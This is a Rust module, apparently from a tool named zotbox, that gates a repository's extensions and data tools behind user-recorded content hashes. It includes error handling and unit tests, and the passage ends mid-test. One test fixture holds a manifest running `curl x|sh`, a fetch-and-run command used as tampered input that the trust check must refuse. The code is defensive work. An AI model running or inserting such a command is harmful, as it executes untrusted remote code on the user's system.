//! Workspace trust: whether a repository's own extensions and data tools may
//! run, recorded by the user in `$ZOT_HOME/trust.json`.
//!
//! # Rules
//!
//! 1. **A workspace is inert until trusted.** Its extensions
//!    (`<ws>/.zot/extensions/*`) and data tools (`<ws>/.zot/tools`,
//!    `<ws>/.shiro/tools`) run only when [`assess`] says
//!    [`Standing::allows`]. Its refusal plugins and skills need no trust:
//!    a plugin can only block, a skill is text.
//! 2. **Trust names exact content.** A record binds the workspace's
//!    canonical path to the SHA-256 of every covered file ([`Contents`]).
//!    Any change to a covered file (one byte, a new file, a removed one, a
//!    symlink retargeted) makes the workspace untrusted again, and a record
//!    for one path never covers another.
//! 3. **What is covered is what can run or decide**: every entry under each
//!    extension folder `<ws>/.zot/extensions/<name>/` (one holding an
//!    `extension.json`, as discovery and zot find them), walked without
//!    following symlinks (a symlink is hashed as its link text, a FIFO,
//!    socket or device as its type, never read); the files a workspace
//!    manifest's `exec`, first argument or `wasm` name when they lie in the
//!    workspace outside the extension's folder; and every entry of
//!    `.zot/tools` and `.shiro/tools` (a symlink there is hashed as its text
//!    *and* the regular file it leads to, since the loader follows it).
//! 4. **Fail closed.** Past [`MAX_HASHED_BYTES`] or [`MAX_COVERED_FILES`],
//!    or when a covered file cannot be read, the workspace cannot be
//!    trusted, with a reason saying so. An unreadable or broken
//!    `trust.json` trusts nothing.
//! 5. **The policy decides first.** `workspace_trust: never` keeps every
//!    workspace inert, records or not; `always` (which only the system
//!    policy can set) trusts without a record.
//! 6. **Only the user writes records**, through [`TrustStore::save`], into
//!    `$ZOT_HOME`; nothing is ever read from the workspace to decide.
//! 7. **What loads is what was hashed.** An [`Assessment`] keeps each
//!    covered file's digest. When an extension of the workspace starts,
//!    its manifest as parsed, its wasm as read and its native program and
//!    script just before they run must match ([`Assessment::check`]);
//!    a file changed, or added where trust covers files, since the
//!    assessment refuses the start. Its data tools must match as loaded,
//!    or the workspace is assessed again (`assess_then_load`). The
//!    window between hashing and loading (a `git pull` landing in it) lets
//!    nothing through, and a restart is checked against a fresh assessment.

mod contents;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::home::ZotHome;
use crate::policy::{Policy, WorkspaceTrust};
use crate::text::Shown;
pub use contents::{
    Contents, Covered, EXTENSIONS_DIR, EntryKind, FolderEntry, MAX_COVERED_FILES, MAX_HASHED_BYTES,
    ScanError, TOOL_DIRS, scan_folder,
};

/// The largest `trust.json` read.
const MAX_TRUST_FILE_BYTES: u64 = 16 * 1024 * 1024;

// ---------------------------------------------------------------------------
// The records.

/// The trust records could not be read or written.
#[derive(Debug, thiserror::Error)]
pub enum TrustError {
    /// `trust.json` could not be read.
    #[error("cannot read `{}`: {source}", path.display())]
    Read {
        /// The file.
        path: PathBuf,
        /// The I/O error.
        source: std::io::Error,
    },
    /// `trust.json` is not what zotbox writes.
    #[error("`{}`: {detail}; fix it or remove it (every workspace is then untrusted)", path.display())]
    Parse {
        /// The file.
        path: PathBuf,
        /// What was wrong, with the field.
        detail: String,
    },
    /// `trust.json` could not be written.
    #[error("cannot write `{}`: {source}", path.display())]
    Write {
        /// The file (or its folder).
        path: PathBuf,
        /// The I/O error.
        source: std::io::Error,
    },
    /// The workspace's path is not UTF-8, so no record can name it.
    #[error("workspace `{}`: its path is not UTF-8, so trust cannot be recorded for it", crate::text::Shown(&path.to_string_lossy()))]
    NotUtf8 {
        /// The workspace.
        path: PathBuf,
    },
    /// The workspace's files could not be hashed.
    #[error("workspace `{}` cannot be trusted: {source}", crate::text::Shown(&path.to_string_lossy()))]
    Scan {
        /// The workspace.
        path: PathBuf,
        /// Why.
        source: ScanError,
    },
}

/// One trusted workspace.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub struct Record {
    /// [`Contents::sha256`] of what the user trusted.
    pub sha256: String,
    /// When: RFC 3339, UTC.
    #[serde(default)]
    pub trusted_at: String,
    /// How many entries it covered then.
    #[serde(default)]
    pub files: usize,
}

#[derive(Debug, Default, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
struct TrustFile {
    #[serde(default)]
    workspaces: BTreeMap<String, Record>,
}

/// The user's trust records, as stored in `$ZOT_HOME/trust.json`:
///
/// ```json
/// { "workspaces": { "/home/me/src/app": { "sha256": "…", "trusted_at": "…", "files": 3 } } }
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TrustStore {
    path: PathBuf,
    workspaces: BTreeMap<String, Record>,
}

impl TrustStore {
    /// Reads the records of `home`; a missing file holds none.
    ///
    /// # Errors
    ///
    /// [`TrustError`] when the file cannot be read or parsed: the caller
    /// then trusts no workspace.
    pub fn load(home: &ZotHome) -> Result<Self, TrustError> {
        let path = home.trust_file();
        let file = match std::fs::File::open(&path) {
            Ok(file) => file,
            Err(err) if err.kind() == std::io::ErrorKind::NotFound => {
                return Ok(Self {
                    path,
                    workspaces: BTreeMap::new(),
                });
            }
            Err(source) => return Err(TrustError::Read { path, source }),
        };
        let bytes =
            crate::user_file::read_file_at_most(file, MAX_TRUST_FILE_BYTES).map_err(|source| {
                TrustError::Read {
                    path: path.clone(),
                    source,
                }
            })?;
        let parse_err = |detail: String| TrustError::Parse {
            path: path.clone(),
            detail,
        };
        let Some(bytes) = bytes else {
            return Err(parse_err(format!(
                "is larger than {MAX_TRUST_FILE_BYTES} bytes"
            )));
        };
        let text = String::from_utf8(bytes).map_err(|_| parse_err("is not UTF-8".to_owned()))?;
        let parsed = crate::user_file::parse::<TrustFile>(&text).map_err(parse_err)?;
        for key in parsed.unknown_keys {
            tracing::warn!("`{}`: unknown key `{key}` ignored", path.display());
        }
        Ok(Self {
            path,
            workspaces: parsed.value.workspaces,
        })
    }

    /// The file these records are saved to.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// The record of `workspace` (a canonical path), if any.
    pub fn record(&self, workspace: &Path) -> Option<&Record> {
        self.workspaces.get(workspace.to_str()?)
    }

    /// Every record, by workspace path.
    pub fn records(&self) -> impl Iterator<Item = (&str, &Record)> {
        self.workspaces.iter().map(|(k, v)| (k.as_str(), v))
    }

    /// Trusts `contents` (replacing an earlier record of its workspace).
    /// Call [`TrustStore::save`] to keep it.
    ///
    /// # Errors
    ///
    /// [`TrustError::NotUtf8`] for a workspace path that is not UTF-8.
    pub fn trust(&mut self, contents: &Contents) -> Result<&Record, TrustError> {
        let key = contents
            .workspace
            .to_str()
            .ok_or_else(|| TrustError::NotUtf8 {
                path: contents.workspace.clone(),
            })?
            .to_owned();
        let record = Record {
            sha256: contents.sha256.clone(),
            trusted_at: crate::data::approval::rfc3339_now(),
            files: contents.covered.len(),
        };
        self.workspaces.insert(key.clone(), record);
        self.workspaces
            .get(&key)
            .ok_or_else(|| TrustError::NotUtf8 {
                path: contents.workspace.clone(),
            })
    }

    /// Forgets `workspace`; `false` when it had no record. Call
    /// [`TrustStore::save`] to keep it.
    pub fn revoke(&mut self, workspace: &Path) -> bool {
        workspace
            .to_str()
            .is_some_and(|key| self.workspaces.remove(key).is_some())
    }

    /// Writes the records atomically: a temporary file in the same folder,
    /// then renamed over the old one.
    ///
    /// # Errors
    ///
    /// [`TrustError::Write`] naming the path.
    pub fn save(&self) -> Result<(), TrustError> {
        let write_err = |path: &Path| {
            let path = path.to_owned();
            move |source| TrustError::Write { path, source }
        };
        let dir = self
            .path
            .parent()
            .map_or_else(|| PathBuf::from("."), Path::to_path_buf);
        std::fs::create_dir_all(&dir).map_err(write_err(&dir))?;
        let file = TrustFile {
            workspaces: self.workspaces.clone(),
        };
        let mut text = serde_json::to_string_pretty(&file)
            .map_err(|err| write_err(&self.path)(std::io::Error::other(err)))?;
        text.push('\n');
        crate::home::write_atomic(&self.path, text.as_bytes()).map_err(write_err(&self.path))?;
        Ok(())
    }
}

/// Trusts `workspace` as it is now, for the user: hashes it, records it in
/// `home`'s `trust.json`. What `zotbox trust --yes` does once it has shown
/// the contents; returns what was trusted.
///
/// # Errors
///
/// [`TrustError`] when the workspace cannot be hashed or the records cannot
/// be read or written.
pub fn trust_workspace(home: &ZotHome, workspace: &Path) -> Result<Contents, TrustError> {
    let contents = Contents::scan(workspace).map_err(|source| TrustError::Scan {
        path: workspace.to_owned(),
        source,
    })?;
    let mut store = TrustStore::load(home)?;
    store.trust(&contents)?;
    store.save()?;
    Ok(contents)
}

// ---------------------------------------------------------------------------
// The decision.

/// Why a workspace's extensions and data tools do not run. Displayed as the
/// end of a sentence about the workspace: ``tool `x` comes from the
/// workspace `/w`, <this>``.
#[derive(Debug, thiserror::Error)]
pub enum Untrusted {
    /// No record for this workspace.
    #[error("which you have not trusted: run `zotbox trust` to review and trust it")]
    NotTrusted,
    /// A record, for other content.
    #[error(
        "which changed since you trusted it on {at}: run `zotbox trust` to review and trust it"
    )]
    Changed {
        /// When the earlier content was trusted.
        at: String,
    },
    /// The policy keeps every workspace inert.
    #[error("and `workspace_trust` is `never` in `{}`: workspace extensions and tools do not run", by.display())]
    Never {
        /// The policy file that says so.
        by: PathBuf,
    },
    /// Its files kept changing between being hashed and being loaded.
    #[error(
        "which kept changing while zotbox loaded it: once it settles, run `zotbox trust` to \
         review and trust it"
    )]
    Unsettled,
    /// The workspace's files cannot be hashed.
    #[error("which cannot be trusted: {0}")]
    Unhashable(ScanError),
    /// The records cannot be read.
    #[error("whose trust cannot be checked: {0}")]
    Store(TrustError),
}

/// Where a workspace stands.
#[derive(Debug)]
pub enum Standing {
    /// It brings no extension and no data tool.
    NothingToTrust,
    /// The user trusted exactly this content.
    Trusted {
        /// When.
        at: String,
    },
    /// The system policy trusts every workspace (`workspace_trust: always`).
    TrustedByPolicy {
        /// The policy file.
        by: PathBuf,
    },
    /// Its extensions and data tools stay off.
    Untrusted(Untrusted),
}

impl Standing {
    /// Whether the workspace's extensions and data tools may run.
    pub fn allows(&self) -> bool {
        !matches!(self, Self::Untrusted(_))
    }

    /// The standing in a few words, for `doctor`: ``trusted on …``,
    /// ``not trusted: …``.
    pub fn summary(&self) -> String {
        match self {
            Self::NothingToTrust => "nothing to trust (no extensions or data tools)".to_owned(),
            Self::Trusted { at } => format!("trusted on {at}"),
            Self::TrustedByPolicy { by } => {
                format!("trusted by `workspace_trust: always` in `{}`", by.display())
            }
            Self::Untrusted(Untrusted::Never { by }) => {
                format!("off by `workspace_trust: never` in `{}`", by.display())
            }
            Self::Untrusted(Untrusted::NotTrusted) => {
                "not trusted: run `zotbox trust` to review and trust it".to_owned()
            }
            Self::Untrusted(Untrusted::Changed { at }) => format!(
                "changed since you trusted it on {at}: run `zotbox trust` to review and trust it"
            ),
            Self::Untrusted(Untrusted::Unsettled) => {
                "kept changing while zotbox loaded it: run `zotbox trust` once it settles"
                    .to_owned()
            }
            Self::Untrusted(Untrusted::Unhashable(err)) => format!("cannot be trusted: {err}"),
            Self::Untrusted(Untrusted::Store(err)) => format!("cannot be checked: {err}"),
        }
    }

    /// Why not, when they may not.
    pub fn untrusted(&self) -> Option<&Untrusted> {
        match self {
            Self::Untrusted(why) => Some(why),
            _ => None,
        }
    }
}

/// A workspace and where it stands.
#[derive(Debug)]
pub struct Assessment {
    /// The workspace, canonical when it exists.
    pub workspace: PathBuf,
    /// Where it stands.
    pub standing: Standing,
    // What was hashed, when the standing rests on it (trusted, or nothing
    // to trust): what a start checks the files it loads against.
    pins: Option<contents::Pins>,
}

/// A file a workspace extension is about to load is not the one its
/// workspace's trust covers. Displayed, like [`Assessment::refusal`], as
/// the end of a sentence about the extension: ``extension `x` <this>``.
#[derive(Debug, thiserror::Error)]
pub enum PinError {
    /// The workspace may not run at all.
    #[error("{0}")]
    Untrusted(String),
    /// The file is not the content that was hashed.
    #[error(
        "comes from the workspace `{}`, whose `{}` is not the content zotbox checked against \
         your trust (it changed since): review it with `zotbox trust`, then start it again",
        Shown(&.workspace.to_string_lossy()),
        Shown(&.path.to_string_lossy())
    )]
    Changed {
        /// The workspace.
        workspace: PathBuf,
        /// The file, as the manifest reaches it.
        path: PathBuf,
    },
    /// The file lies where trust covers files, and was not among them.
    #[error(
        "comes from the workspace `{}`, whose `{}` is not among the files you trusted (it \
         appeared since): review it with `zotbox trust`, then start it again",
        Shown(&.workspace.to_string_lossy()),
        Shown(&.path.to_string_lossy())
    )]
    Uncovered {
        /// The workspace.
        workspace: PathBuf,
        /// The file.
        path: PathBuf,
    },
    /// The file could not be read to check it.
    #[error(
        "comes from the workspace `{}`, whose `{}` cannot be read to check it: {source}",
        Shown(&.workspace.to_string_lossy()),
        Shown(&.path.to_string_lossy())
    )]
    Unreadable {
        /// The workspace.
        workspace: PathBuf,
        /// The file.
        path: PathBuf,
        /// The I/O error.
        source: std::io::Error,
    },
}

impl Assessment {
    /// An assessment under which nothing of `workspace` runs, before any
    /// was made.
    pub(crate) fn not_yet(workspace: &Path) -> Self {
        Self {
            workspace: workspace.to_owned(),
            standing: Standing::Untrusted(Untrusted::NotTrusted),
            pins: None,
        }
    }

    /// The SHA-256 `path` must hold when one of this workspace's extensions
    /// loads it: trust names the content it hashed, not whatever a path
    /// holds a moment later (a `git pull` between the check and the start).
    /// `None` when anything there may load: the system policy trusts the
    /// workspace whatever it holds, or the file lies outside the workspace
    /// and every extension and tools folder (it is not the workspace's
    /// content).
    ///
    /// # Errors
    ///
    /// [`PinError`] when the workspace may not run, or the file lies where
    /// trust covers files and was not hashed (it appeared since).
    pub fn expected(&self, path: &Path) -> Result<Option<[u8; 32]>, PinError> {
        if let Some(refusal) = self.refusal() {
            return Err(PinError::Untrusted(refusal));
        }
        let Some(pins) = &self.pins else {
            return Ok(None);
        };
        let real = std::fs::canonicalize(path).map_err(|source| PinError::Unreadable {
            workspace: self.workspace.clone(),
            path: path.to_owned(),
            source,
        })?;
        if let Some(digest) = pins.by_real_path.get(&real) {
            return Ok(Some(*digest));
        }
        if pins.roots.iter().any(|root| real.starts_with(root)) {
            return Err(PinError::Uncovered {
                workspace: self.workspace.clone(),
                path: path.to_owned(),
            });
        }
        Ok(None)
    }

    /// Checks that `digest`, the SHA-256 of what was read from `path`, is
    /// what [`Assessment::expected`] says the file must hold.
    ///
    /// # Errors
    ///
    /// As [`Assessment::expected`], and [`PinError::Changed`] for other content.
    pub fn check(&self, path: &Path, digest: &[u8; 32]) -> Result<(), PinError> {
        match self.expected(path)? {
            Some(expected) if expected != *digest => Err(self.changed(path)),
            _ => Ok(()),
        }
    }

    /// Reads `path` and checks it as [`Assessment::check`] does: for files
    /// that run without zotbox reading them (a native extension's program
    /// and script), just before they start.
    ///
    /// # Errors
    ///
    /// As [`Assessment::check`] (a FIFO or device swapped in for a file is
    /// not it, and is never read), and [`PinError::Unreadable`].
    pub fn check_file(&self, path: &Path) -> Result<(), PinError> {
        let Some(expected) = self.expected(path)? else {
            return Ok(());
        };
        let unreadable = |source| PinError::Unreadable {
            workspace: self.workspace.clone(),
            path: path.to_owned(),
            source,
        };
        let digest = match contents::hash_file(path) {
            Ok(digest) => digest,
            // Grown past what can have been hashed: not that file.
            Err(ScanError::TooLarge { .. }) => return Err(self.changed(path)),
            Err(ScanError::Read { source, .. }) => return Err(unreadable(source)),
            Err(err @ ScanError::TooMany { .. }) => {
                return Err(unreadable(std::io::Error::other(err.to_string())));
            }
        };
        if digest == expected {
            Ok(())
        } else {
            Err(self.changed(path))
        }
    }

    /// [`PinError::Changed`] for `path`.
    pub fn changed(&self, path: &Path) -> PinError {
        PinError::Changed {
            workspace: self.workspace.clone(),
            path: path.to_owned(),
        }
    }

    /// ``comes from the workspace `/w`, which …``: why something of this
    /// workspace does not run; `None` when it may.
    pub fn refusal(&self) -> Option<String> {
        self.standing.untrusted().map(|why| {
            format!(
                "comes from the workspace `{}`, {why}",
                crate::text::Shown(&self.workspace.to_string_lossy())
            )
        })
    }
}

/// Where `workspace` stands under `policy` and the records in `home`.
/// Reads (hashes) the workspace's covered files; starts nothing.
pub fn assess(policy: &Policy, home: &ZotHome, workspace: &Path) -> Assessment {
    let workspace = std::fs::canonicalize(workspace).unwrap_or_else(|_| workspace.to_owned());
    let (setting, by) = policy.workspace_trust();
    let by = by.map(Path::to_path_buf).unwrap_or_default();
    let mut hashed = None;
    let standing = match setting {
        WorkspaceTrust::Never => Standing::Untrusted(Untrusted::Never { by }),
        WorkspaceTrust::Always => Standing::TrustedByPolicy { by },
        WorkspaceTrust::Ask => match Contents::scan(&workspace) {
            Err(err) => Standing::Untrusted(Untrusted::Unhashable(err)),
            Ok(contents) if contents.is_empty() => {
                hashed = Some(contents.into_pins());
                Standing::NothingToTrust
            }
            Ok(contents) => match TrustStore::load(home) {
                Err(err) => Standing::Untrusted(Untrusted::Store(err)),
                Ok(store) => match store.record(&workspace) {
                    None => Standing::Untrusted(Untrusted::NotTrusted),
                    Some(record) if record.sha256 == contents.sha256 => {
                        let at = record.trusted_at.clone();
                        hashed = Some(contents.into_pins());
                        Standing::Trusted { at }
                    }
                    Some(record) => Standing::Untrusted(Untrusted::Changed {
                        at: record.trusted_at.clone(),
                    }),
                },
            },
        },
    };
    Assessment {
        workspace,
        standing,
        pins: hashed,
    }
}

/// How many times [`assess_then_load`] assesses again before it gives up.
const MAX_ASSESSMENTS: usize = 4;

/// Assesses a workspace with `assess`, loads what that allows with `load`,
/// and returns both once `check` finds that what loaded is what was hashed
/// (rule 7). When it is not (a change landed between the hash and the
/// load), the workspace is assessed and loaded again: a workspace changed
/// since its record is then untrusted, and loads as such. One that keeps
/// changing under every look is [`Untrusted::Unsettled`], loaded as
/// untrusted.
pub(crate) fn assess_then_load<T>(
    mut assess: impl FnMut() -> Assessment,
    mut load: impl FnMut(&Assessment) -> T,
    mut check: impl FnMut(&Assessment, &T) -> Result<(), String>,
) -> (Assessment, T) {
    let mut assessment = assess();
    for _ in 0..MAX_ASSESSMENTS {
        let loaded = load(&assessment);
        match check(&assessment, &loaded) {
            Ok(()) => return (assessment, loaded),
            Err(why) => tracing::warn!("{why}; assessing the workspace again"),
        }
        assessment = assess();
    }
    let unsettled = Assessment {
        workspace: assessment.workspace,
        standing: Standing::Untrusted(Untrusted::Unsettled),
        pins: None,
    };
    let loaded = load(&unsettled);
    (unsettled, loaded)
}

/// `dir` as an absolute path spelled as it was given, links and all: a
/// relative `dir` joined to `$PWD` (the folder zot started `zotbox run` in),
/// `..` and `.` resolved by name. `None` when that does not name the folder
/// `dir` names.
pub fn as_spelled(dir: &Path) -> Option<PathBuf> {
    let logical = if dir.is_relative() {
        let pwd = PathBuf::from(std::env::var_os("PWD")?);
        if !pwd.is_absolute() {
            return None;
        }
        normalise(&pwd.join(dir))
    } else {
        normalise(dir)
    };
    let real = std::fs::canonicalize(dir).ok()?;
    std::fs::canonicalize(&logical)
        .is_ok_and(|p| p == real)
        .then_some(logical)
}

/// How the process that hosts an extension was started, as the kernel
/// and zot's environment tell it: what, beside the folder named,
/// [`workspace_of_extension`] judges that folder by. The folder is named
/// by the manifest's `args`, which a workspace's author writes and may
/// point anywhere; the folder zot started the process in, and the one zot
/// runs in, are not theirs to choose.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Started {
    /// The folder the process started in, real path: zot starts an
    /// extension in the folder it found it in.
    #[serde(default)]
    pub cwd: Option<PathBuf>,
    /// The folder the process's parent (zot) runs in, real path.
    #[serde(default)]
    pub parent_cwd: Option<PathBuf>,
    /// `$PWD` as the process inherited it (zot's folder as zot's shell
    /// spelled it).
    #[serde(default)]
    pub pwd: Option<PathBuf>,
}

impl Started {
    /// This process's: `zotbox run` standalone, or the relay, which hands
    /// them to the shared host.
    pub fn this_process() -> Self {
        let parent = std::os::unix::process::parent_id();
        Self {
            cwd: std::env::current_dir().and_then(std::fs::canonicalize).ok(),
            parent_cwd: std::fs::canonicalize(format!("/proc/{parent}/cwd")).ok(),
            pwd: std::env::var_os("PWD")
                .map(PathBuf::from)
                .filter(|pwd| pwd.is_absolute()),
        }
    }
}

/// Entries of one `.zot/extensions` folder compared with an extension's
/// folder before it counts as that workspace's anyway: a folder of more
/// could only hide one among them.
const MAX_SCANNED_ENTRIES: usize = 10_000;

/// The workspace whose `.zot/extensions/` holds the extension folder `dir`
/// (its `../../..`), if any, as `zotbox run` sees it. The user's own
/// `$ZOT_HOME/extensions` is no workspace's; anything a workspace's
/// extension folder leads to is, however it is named:
///
/// - the folder's real path, or the path zot started it in (`$PWD`) when
///   that names the same folder, or the folder the process started in
///   (`started.cwd`: zot starts an extension in its folder, whatever
///   folder the manifest's `args` name), is `<ws>/.zot/extensions/<name>`;
/// - or an entry of `<ws>/.zot/extensions/`, for `<ws>` the folder zot
///   runs in or one above it, leads (as a link) to the folder or to where
///   the process started: a repository may keep its extension in
///   `vendor/x` and link it in, and zot follows the link.
///
/// A folder in `$ZOT_HOME/extensions` is the user's whatever leads to it
/// (its files and grant are what they installed); otherwise only a folder
/// no workspace's extension folder leads to is (named by `zot --ext PATH`).
pub fn workspace_of_extension(dir: &Path, started: &Started, home: &ZotHome) -> Option<PathBuf> {
    let real = std::fs::canonicalize(dir).ok()?;
    let user_dir = home.extensions_dir();
    let user_real = std::fs::canonicalize(&user_dir).ok();
    let is_users = |extensions: &Path| {
        extensions == user_dir
            || Some(extensions) == user_real.as_deref()
            || std::fs::canonicalize(extensions).is_ok_and(|e| Some(&e) == user_real.as_ref())
    };
    // A folder the user installed is theirs, whatever leads to it: its
    // files and grant are what the user consented to.
    if real.parent().is_some_and(is_users) {
        return None;
    }
    let mut named = vec![real.clone()];
    // The path as given (or as `$PWD` spells a relative one), when it
    // reaches the same folder through a link: a workspace's extension folder
    // may be a link to elsewhere, and it is still that workspace's.
    if let Some(logical) = as_spelled(dir)
        && logical != real
    {
        named.push(logical);
    }
    named.extend(started.cwd.iter().cloned());
    let shaped = named.iter().find_map(|folder| {
        let extensions = folder.parent()?;
        if is_users(extensions) {
            return None;
        }
        let dot_zot = extensions.parent()?;
        (extensions.file_name()? == "extensions" && dot_zot.file_name()? == ".zot")
            .then(|| dot_zot.parent().map(Path::to_path_buf))
            .flatten()
    });
    if shaped.is_some() {
        return shaped;
    }
    let reached: Vec<&PathBuf> = std::iter::once(&real).chain(&started.cwd).collect();
    let bases = started.parent_cwd.iter().chain(&started.pwd);
    bases
        .flat_map(|base| base.ancestors())
        .find(|ws| {
            let extensions = ws.join(".zot/extensions");
            if is_users(&extensions) {
                return false;
            }
            let Ok(entries) = std::fs::read_dir(&extensions) else {
                return false;
            };
            let mut seen = 0;
            entries.flatten().any(|entry| {
                seen += 1;
                seen > MAX_SCANNED_ENTRIES
                    || std::fs::canonicalize(entry.path()).is_ok_and(|to| reached.contains(&&to))
            })
        })
        .map(Path::to_path_buf)
}

/// `path` with `.` and `..` components resolved lexically.
fn normalise(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for component in path.components() {
        match component {
            std::path::Component::CurDir => {}
            std::path::Component::ParentDir => {
                out.pop();
            }
            other => out.push(other),
        }
    }
    out
}

/// Refuses the extension folder `dir` when it is some workspace's (see
/// [`workspace_of_extension`]) and that workspace may not run (what `zotbox run`
/// checks before it starts anything). Returns that workspace's assessment,
/// which the start checks the files it loads against, if any.
///
/// # Errors
///
/// The refusal, ``comes from the workspace `/w`, which …``.
pub fn check_extension_dir(
    dir: &Path,
    started: &Started,
    home: &ZotHome,
    policy: &Policy,
) -> Result<Option<Assessment>, String> {
    let Some(workspace) = workspace_of_extension(dir, started, home) else {
        return Ok(None);
    };
    let assessment = assess(policy, home, &workspace);
    match assessment.refusal() {
        Some(refusal) => Err(refusal),
        None => Ok(Some(assessment)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    struct Fixture {
        _tmp: tempfile::TempDir,
        ws: PathBuf,
        home: ZotHome,
    }

    fn fixture() -> Fixture {
        let tmp = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
        let root = std::fs::canonicalize(tmp.path()).unwrap_or_else(|e| panic!("{e}"));
        let ws = root.join("ws");
        let ext = ws.join(".zot/extensions/helper");
        std::fs::create_dir_all(&ext).unwrap_or_else(|e| panic!("{e}"));
        write(
            &ext.join("extension.json"),
            r#"{"name":"helper","exec":"sh","args":["-c","./run.sh"]}"#,
        );
        write(&ext.join("run.sh"), "touch marker\n");
        Fixture {
            _tmp: tmp,
            ws,
            home: ZotHome::new(root.join("home")),
        }
    }

    fn write(path: &Path, text: &str) {
        if let Some(dir) = path.parent() {
            std::fs::create_dir_all(dir).unwrap_or_else(|e| panic!("{e}"));
        }
        std::fs::write(path, text).unwrap_or_else(|e| panic!("{e}"));
    }

    fn standing(f: &Fixture) -> Standing {
        assess(&Policy::permissive(), &f.home, &f.ws).standing
    }

    #[test]
    fn trust_is_bound_to_the_path_and_the_content() {
        let f = fixture();
        assert!(matches!(
            standing(&f),
            Standing::Untrusted(Untrusted::NotTrusted)
        ));
        trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
        assert!(matches!(standing(&f), Standing::Trusted { .. }));
        // The same content at another path is not trusted.
        let twin = f.ws.with_file_name("twin");
        std::fs::create_dir_all(twin.join(".zot/extensions/helper"))
            .unwrap_or_else(|e| panic!("{e}"));
        for file in ["extension.json", "run.sh"] {
            std::fs::copy(
                f.ws.join(".zot/extensions/helper").join(file),
                twin.join(".zot/extensions/helper").join(file),
            )
            .unwrap_or_else(|e| panic!("{e}"));
        }
        let twin_standing = assess(&Policy::permissive(), &f.home, &twin).standing;
        assert!(matches!(
            twin_standing,
            Standing::Untrusted(Untrusted::NotTrusted)
        ));
        // One byte changed: untrusted again, saying since when.
        write(
            &f.ws.join(".zot/extensions/helper/run.sh"),
            "touch markes\n",
        );
        let Standing::Untrusted(why @ Untrusted::Changed { .. }) = standing(&f) else {
            panic!("not changed: {:?}", standing(&f));
        };
        assert!(
            why.to_string()
                .starts_with("which changed since you trusted it on "),
            "{why}"
        );
        // Revoked: not trusted; only trust.json is left in the home.
        let mut store = TrustStore::load(&f.home).unwrap_or_else(|e| panic!("{e}"));
        assert!(store.revoke(&f.ws));
        assert!(!store.revoke(&f.ws));
        store.save().unwrap_or_else(|e| panic!("{e}"));
        let files: Vec<_> = std::fs::read_dir(f.home.root())
            .unwrap_or_else(|e| panic!("{e}"))
            .filter_map(Result::ok)
            .map(|e| e.file_name())
            .collect();
        assert_eq!(files, vec![std::ffi::OsString::from("trust.json")]);
    }

    #[test]
    fn an_empty_workspace_needs_nothing_and_a_broken_record_trusts_nothing() {
        let f = fixture();
        let empty = f.ws.with_file_name("empty");
        std::fs::create_dir_all(empty.join(".zot/skills")).unwrap_or_else(|e| panic!("{e}"));
        let standing = assess(&Policy::permissive(), &f.home, &empty).standing;
        assert!(matches!(standing, Standing::NothingToTrust));
        write(
            &f.home.trust_file(),
            r#"{"workspaces":{"/x":{"sha256":1}}}"#,
        );
        let Standing::Untrusted(why) = self::standing(&f) else {
            panic!("trusted with a broken file");
        };
        let why = why.to_string();
        assert!(
            why.starts_with("whose trust cannot be checked: `")
                && why.contains("field `workspaces./x.sha256`"),
            "{why}"
        );
    }

    #[test]
    fn the_policy_decides_before_any_record() {
        let f = fixture();
        trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
        let layer = |scope, path: &str, json: &str| crate::policy::Layer {
            scope,
            path: PathBuf::from(path),
            file: serde_json::from_str(json).unwrap_or_else(|e| panic!("{e}")),
        };
        use crate::policy::Scope::{System, User};
        let cases = [
            // The user's `never` beats their own record.
            (
                vec![layer(User, "/u", r#"{"workspace_trust":"never"}"#)],
                false,
            ),
            // The system's `always` needs no record, even for an untrusted twin.
            (
                vec![layer(System, "/s", r#"{"workspace_trust":"always"}"#)],
                true,
            ),
        ];
        for (layers, allows) in cases {
            let policy = Policy::from_layers(layers);
            assert_eq!(assess(&policy, &f.home, &f.ws).standing.allows(), allows);
        }
        let never = Policy::from_layers(vec![layer(User, "/u", r#"{"workspace_trust":"never"}"#)]);
        assert_eq!(
            assess(&never, &f.home, &f.ws).refusal().unwrap_or_default(),
            format!(
                "comes from the workspace `{}`, and `workspace_trust` is `never` in `/u`: \
                 workspace extensions and tools do not run",
                f.ws.display()
            )
        );
    }

    fn sha256(bytes: &[u8]) -> [u8; 32] {
        <sha2::Sha256 as sha2::Digest>::digest(bytes).into()
    }

    fn err_text<T: std::fmt::Debug>(result: Result<T, PinError>) -> String {
        match result {
            Ok(value) => panic!("not refused: {value:?}"),
            Err(err) => err.to_string(),
        }
    }

    #[test]
    fn a_start_checks_what_it_loads_against_what_was_hashed_not_what_is_there_now() {
        let f = fixture();
        trust_workspace(&f.home, &f.ws).unwrap_or_else(|e| panic!("{e}"));
        let ext = f.ws.join(".zot/extensions/helper");
        let trusted = assess(&Policy::permissive(), &f.home, &f.ws);
        assert!(matches!(trusted.standing, Standing::Trusted { .. }));
        // As hashed: the manifest as parsed and the script as it is.
        let manifest = crate::manifest::Manifest::load(&ext.join("extension.json"))
            .unwrap_or_else(|e| panic!("{e}"));
        trusted
            .check(&manifest.path, &manifest.sha256)
            .unwrap_or_else(|e| panic!("{e}"));
        trusted
            .check_file(&ext.join("run.sh"))
            .unwrap_or_else(|e| panic!("{e}"));
        // Attack: one byte of the script changes after the assessment (a
        // `git pull` landing between the hash and the start).
        write(&ext.join("run.sh"), "touch markes\n");
        assert_eq!(
            err_text(trusted.check_file(&ext.join("run.sh"))),
            format!(
                "comes from the workspace `{}`, whose `{}` is not the content zotbox checked \
                 against your trust (it changed since): review it with `zotbox trust`, then \
                 start it again",
                f.ws.display(),
                ext.join("run.sh").display()
            )
        );
        // A manifest parsed from other text than the one hashed.
        let other = sha256(br#"{"name":"helper","exec":"sh","args":["-c","curl x|sh"]}"#);
        assert!(matches!(
            trusted.check(&manifest.path, &other),
